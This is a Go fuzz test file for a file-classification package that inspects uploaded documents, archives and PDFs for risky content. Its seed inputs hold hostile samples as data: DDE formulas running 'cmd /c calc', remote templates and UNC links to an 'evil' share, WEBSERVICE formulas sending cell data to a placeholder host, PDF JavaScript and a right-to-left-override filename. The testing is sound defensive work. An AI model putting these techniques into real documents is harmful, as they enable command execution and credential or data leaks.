package filetype

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
)

// fuzzLimits are small so that one input cannot take long.
var fuzzLimits = Limits{MaxDepth: 3, MaxEntries: 64, MaxRatio: 100, MaxTotal: 4 << 20}

func FuzzSniff(f *testing.F) {
	f.Add([]byte("MZ"))
	f.Add([]byte("%PDF-1.4"))
	f.Add([]byte("PK\x03\x04"))
	f.Add([]byte(oleMagic))
	f.Add([]byte("<html><script>"))
	f.Add([]byte("\xff\xfeh\x00i\x00"))
	f.Add([]byte("\x1b$B$3$s\x1b(B"))
	f.Fuzz(func(t *testing.T, head []byte) {
		mt, c := Sniff(head)
		if !c.Valid() || mt == "" {
			t.Fatalf("Sniff = %q, %q", mt, c)
		}
		if !KnownType(mt) {
			t.Fatalf("Sniff = %q, not a KnownType (mugai check would warn of a rule naming it)", mt)
		}
	})
}

func FuzzClassify(f *testing.F) {
	f.Add(zipFile(f, deflate("a.exe", peFile())), "application/zip", "a.zip")
	f.Add(zipFile(f, deflate("in.zip", zipFile(f, zent{name: "x", data: []byte("x"), raw: true, size: 1, flags: 1}))), "", "a.zip")
	f.Add(docx(f), "application/octet-stream", "a.docx")
	// The OOXML relationship and field readers, and an OpenDocument file.
	f.Add(docx(f, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\t.dotm" TargetMode="&#69;xternal"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.jp/" TargetMode="External"/></Relationships>`)),
		deflate("word/document.xml", wordField(` INCLUDE`, `PICTURE "\\\\evil\\s\\a.png" \d `))), "application/octet-stream", "a.docx")
	f.Add(zipFile(f, deflate("mimetype", []byte("application/vnd.oasis.opendocument.text")), deflate("content.xml", []byte(`<office:document-content/>`))), "", "a.odt")
	// The part reader shared by fields and formulas: UTF-16, a DTD.
	f.Add(xlsx(f, "", "", deflate("xl/worksheets/sheet2.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><worksheet><sheetData><row><c><f>WEBSERVICE("http://x/")</f></c></row></sheetData></worksheet>`))), "", "a.xlsx")
	f.Add(docx(f, deflate("word/document.xml", []byte(`<!DOCTYPE d><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr=" HYPERLINK \o &quot;t&quot; &quot;\\\\e\\s&quot; "/></w:p></w:body></w:document>`))), "", "a.docx")
	// A form control's property naming a share.
	f.Add(odfFile(f, mimeODT, odfBody("text", `<office:forms><form:form><form:button><form:properties><form:property form:property-name="ImageURL" office:value-type="string" office:string-value="file://evil/s/a.png"/></form:properties></form:button></form:form></office:forms>`)), "", "a.odt")
	f.Add(odfFile(f, mimeODS, odfBody("spreadsheet", `<table:table><table:table-row><table:table-cell table:formula="of:=[$'\\evil\s\b.ods'.A1]"/></table:table-row></table:table>`)), "", "a.ods")
	f.Add(odfFile(f, mimeODT, odfBody("text", odfSVGFrame), deflate("Pictures/1.png", svgImage(`\\evil\s\a.png`)), stored("Pictures/2.svgz", gzipOf(f, "", svgImage(`data:image/svg+xml,x`)))), "", "a.odt")
	f.Add(odfFile(f, mimeODS, odfBody("spreadsheet", `<table:table xmlns:x="http://schemas.microsoft.com/office/excel/formula"><table:table-row><table:table-cell table:formula="x:=cmd|'/c calc'!A1+'\\s\h\[b.xlsx]S'!A1"/></table:table-row></table:table>`)), "", "a.ods")
	f.Add(odfFile(f, mimeODT, odfBody("text", `<draw:frame><draw:image><office:binary-data>`+base64.StdEncoding.EncodeToString(svgImage(`\\evil\s\a.png`))+`</office:binary-data></draw:image></draw:frame>`)), "", "a.odt")
	f.Add(tarOf(f, tent{name: "a.csv", typ: 'Z', data: []byte("=cmd|'/c calc'!A1\r\n")}, tent{name: "V", typ: 'V'}), "", "a.tar")
	f.Add(odfFile(f, mimeODT, odfBody("text", ""), deflate("Configurations2/accelerator/current.xml", []byte(`<accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item xlink:href=".uno:Open?URL:string=%5C%5Ce%5Cs&amp;x=%zz"/></accel:acceleratorlist>`))), "", "a.odt")
	f.Add(gzipOf(f, "", tarFile(f, map[string][]byte{"a.sh": []byte("#!")}, "a.sh")), "", "a.tgz")
	f.Add(oleFile(clsidMSI), "", "a.msi")
	f.Add(odfFile(f, mimeODT, odfBody("text", `<text:p><text:database-display text:database-name="Addresses" text:table-name="t"/></text:p><office:forms><form:form><form:listbox><form:properties><form:list-property form:property-name="StringItemList"><form:list-value office:string-value="\\e\s"/></form:list-property><form:property><form:property-value>https://e/</form:property-value></form:property></form:properties></form:listbox></form:form></office:forms>`)), "", "a.odt")
	f.Add(docx(f, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://x/a.png" TargetMode="External"/></Relationships>`)), deflate("word/document.xml", []byte(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId7"/></w:p></w:body></w:document>`))), "", "a.docx")
	f.Add(docx(f, deflate("word/embeddings/oleObject1.bin", cfbFile(clsidXls, cfbEnt{name: "\x01CompObj", typ: 2, data: make([]byte, 600)}, cfbEnt{name: "\x01Ole", typ: 2, data: oleStreamOf(1)}))), "", "a.docx")
	// A .ppt whose records hold a VBA project, an embedded object and a
	// slide action running a program.
	f.Add(pptFile(pptStream(pptContainer(rtVBAInfo, pptRec(2, 0, rtVBAInfoAtom, make([]byte, 12))), pptAction(2), pptRec(0, 1, rtExOleObjStg, make([]byte, 12)), 0)), "", "a.ppt")
	f.Add(pdfFile("/JS (x)"), "application/pdf", "a.pdf")
	// An Excel 97-2003 workbook's records: a macro sheet, a DDE link.
	f.Add(xlsFile(0, boundSheet(2, sheetMacro, "m"), supBook(12, "\x00cmd\x03/c calc")), "", "a.xls")
	// A .doc whose field, split over an 8-bit and a UTF-16 piece, is DDEAUTO.
	f.Add(docFile(docSpec{pieces: []docText{{text: "\x13 DDE"}, {text: "AUTO cmd \"/c calc\" \x14\x15", wide: true}}}), "", "a.doc")
	// An RTF document's fields: groups, escapes, \bin, a nested field.
	f.Add([]byte(`{\rtf1{\field{\*\fldinst {\rtlch INCLU}\'44E\uc2\u80 ab{\*\x\bin2 }}}{\field{\*\fldinst QUOTE}} "\\\\e\\s"}{\fldrslt x}}`), "", "a.doc")
	f.Add(objStmPDF("/N 2 /First 12 /Filter [/FlateDecode /ASCIIHexDecode]", deflateBytes([]byte(hex.EncodeToString(objects(true))+">"))), "application/pdf", "a.pdf")
	f.Add(windowEdgePDF(objects(true)), "application/pdf", "a.pdf")
	f.Add(objStmPDF("/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>", deflateBytes(pngPredict(objects(true), 7, 2))), "application/pdf", "a.pdf")
	f.Add([]byte("plain text"), "text/plain", "invoice\u202Etxt.exe")
	f.Add(zipFile(f, deflate("名簿.csv", []byte("a,\"=HYPERLINK(\"\"http://x/\"\")\"\r\nb\t@SUM(1)\r\n"))), "application/zip", "a.zip")
	f.Add(xlsx(f, `<webPublishObjects><webPublishObject id="1" destinationFile="\\e\s\p.htm" autoRepublish=" on "/></webPublishObjects>`, cellFormula(`_xll.F(1)+\\e\s\b.xlsx!N+https://e/b.xlsx!N`), deflate("xl/xmlMaps.xml", []byte(`<MapInfo><Map ID="1"><DataBinding FileBinding="true" ConnectionID="1" DataBindingLoadMode="1"/></Map></MapInfo>`))), "", "a.xlsx")
	f.Fuzz(func(t *testing.T, data []byte, declared, filename string) {
		res, err := Classify(bytes.NewReader(data), int64(len(data)), declared, filename, fuzzLimits)
		if err != nil {
			t.Fatalf("Classify: %v", err) // a bytes.Reader never fails
		}
		checkInvariants(t, res)
		if !KnownType(res.SniffedType) {
			t.Fatalf("SniffedType %q is not a KnownType", res.SniffedType)
		}
		// Content that sniffs as executable is never classed lower.
		if _, c := Sniff(data[:min(len(data), sniffLong)]); c == ClassExecutable && res.Class != ClassExecutable {
			t.Fatalf("sniffed executable, classified %q", res.Class)
		}
	})
}

// FuzzWorkbookFormula: the formula reader takes any text without
// panicking, whatever its quotes and brackets.
func FuzzWorkbookFormula(f *testing.F) {
	for _, s := range []string{
		`cmd|'/c calc'!A1`, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x/"&A1),"//a")`,
		`SUM(Table1[[#This Row],['[x]])+[1]Sheet1!A1+'\\s\h\[b.xlsx]S'!A1`,
		`HYPERLINK("https://example.jp/?q="&A1,"a")&HYPERLINK("\\s\h")`, `SUM('\\s\h\b.xlsx'!Sales)+'It''s'!A1`, `HYPERLINK("`, `'a''`, `Table1['`, `"""`,
	} {
		f.Add(s)
	}
	f.Add(`_xll.BDP("x")+_xludf.F(1)+\\s\h\b.xlsx!N+C:\d\b.xlsx!N+https://h/b.xlsx!N+//h/s/b.xlsx!N+A1/Sheet2!B1+Table1[a://b]:/`)
	f.Fuzz(func(t *testing.T, s string) {
		in := newInspector(fuzzLimits)
		in.formula(s, "xl/worksheets/sheet1.xml")
		if n := len(in.findings.list()); n > 20 {
			t.Fatalf("%d findings", n)
		}
	})
}

// FuzzScanFormula: any attribute value reads as a formula without a
// panic, and what it finds is in it: a fetching function or HYPERLINK
// needs a parenthesis, a reference to another file a '#'.
func FuzzScanFormula(f *testing.F) {
	f.Add(`of:=COM.MICROSOFT.WEBSERVICE("http://x/?"&[.A1])`)
	f.Add(`of:=['file:///\\x\s\b.ods'#$Sheet1.A1]+[$'It''s'.B1]`)
	f.Add(`of:=HYPERLINK("https://x/""a"; "t")&HYPERLINK("fi"&"le:")`)
	f.Add(`of:=IF(ISNA([.B1]);"'x'#$y";#N/A)`)
	f.Add(`of:=[$'\\x\s\b.ods'.A1]+['R6.4'.A1]+['a''b:'.`)
	f.Add(`of:=HYPERLINK("https://x/?q=" & [.A1])&HYPERLINK("tel:"&[.B1];"t")&HYPERLINK("mailto:"&[.C1])&HYPERLINK("https:"&`)
	f.Fuzz(func(t *testing.T, v string) {
		r := scanFormula(v)
		if (len(r.fetches) > 0 || len(r.links) > 0 || r.unread) && !strings.Contains(v, "(") {
			t.Fatalf("%q: a function call without a parenthesis: %+v", v, r)
		}
		if r.external && !strings.Contains(v, "#") && !strings.Contains(v, "'.") {
			t.Fatalf("%q: another file's reference without '#' or a quoted name before '.'", v)
		}
		for _, l := range r.links {
			if len(l) > len(v) {
				t.Fatalf("%q: link %q longer than the formula", v, l)
			}
		}
	})
}
